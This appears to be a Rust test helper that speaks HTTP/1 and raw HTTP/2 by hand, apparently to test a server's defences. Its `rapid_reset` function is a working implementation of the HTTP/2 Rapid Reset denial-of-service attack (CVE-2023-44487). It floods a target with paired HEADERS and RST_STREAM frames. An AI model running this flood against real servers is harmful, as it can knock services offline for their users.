//! HTTP by hand, for what a proper client wouldn't send.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

/// An HTTP/1 page: status and body.
pub async fn http(addr: SocketAddr, path: &str) -> (u16, String) {
    let mut stream = TcpStream::connect(addr).await.unwrap();
    let request = format!("GET {path} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n");
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).await.unwrap();
    let (head, body) = answer.split_once("\r\n\r\n").unwrap();
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    (status, body.to_owned())
}

pub const SETTINGS: u8 = 4;
pub const GOAWAY: u8 = 7;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;

/// An HTTP/2 connection without its manners.
pub struct Http2(TcpStream);

#[derive(Debug)]
pub struct Frame {
    pub kind: u8,
    pub payload: Vec<u8>,
}

impl Http2 {
    /// Connects, and sends the preface with empty settings.
    pub async fn connect(addr: SocketAddr) -> Self {
        let mut stream = TcpStream::connect(addr).await.unwrap();
        let mut hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        hello.extend(frame(SETTINGS, 0, 0, &[]));
        stream.write_all(&hello).await.unwrap();
        Self(stream)
    }

    /// The next frame; `None` when the connection has ended or nothing came in time.
    pub async fn next(&mut self, within: Duration) -> Option<Frame> {
        let read = async {
            let mut head = [0; 9];
            self.0.read_exact(&mut head).await.ok()?;
            let size = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
            let mut payload = vec![0; size];
            self.0.read_exact(&mut payload).await.ok()?;
            Some(Frame {
                kind: head[3],
                payload,
            })
        };
        tokio::time::timeout(within, read).await.ok().flatten()
    }

    /// The next frame of a kind.
    pub async fn find(&mut self, kind: u8, within: Duration) -> Option<Frame> {
        let found = async {
            loop {
                let frame = self.next(within).await?;
                if frame.kind == kind {
                    return Some(frame);
                }
            }
        };
        tokio::time::timeout(within, found).await.ok().flatten()
    }

    /// Opens streams and resets each at once (CVE-2023-44487).
    pub async fn rapid_reset(&mut self, streams: u32) {
        // :method POST, :scheme http, :path /, by their indices in HPACK's static table.
        let block = [0x83, 0x86, 0x84];
        let mut flood = Vec::new();
        for n in 0..streams {
            let stream = 2 * n + 1;
            flood.extend(frame(HEADERS, 0x4, stream, &block));
            flood.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        // The server may have gone before it has read all.
        let _ = self.0.write_all(&flood).await;
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let size = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let mut frame = vec![size[1], size[2], size[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}
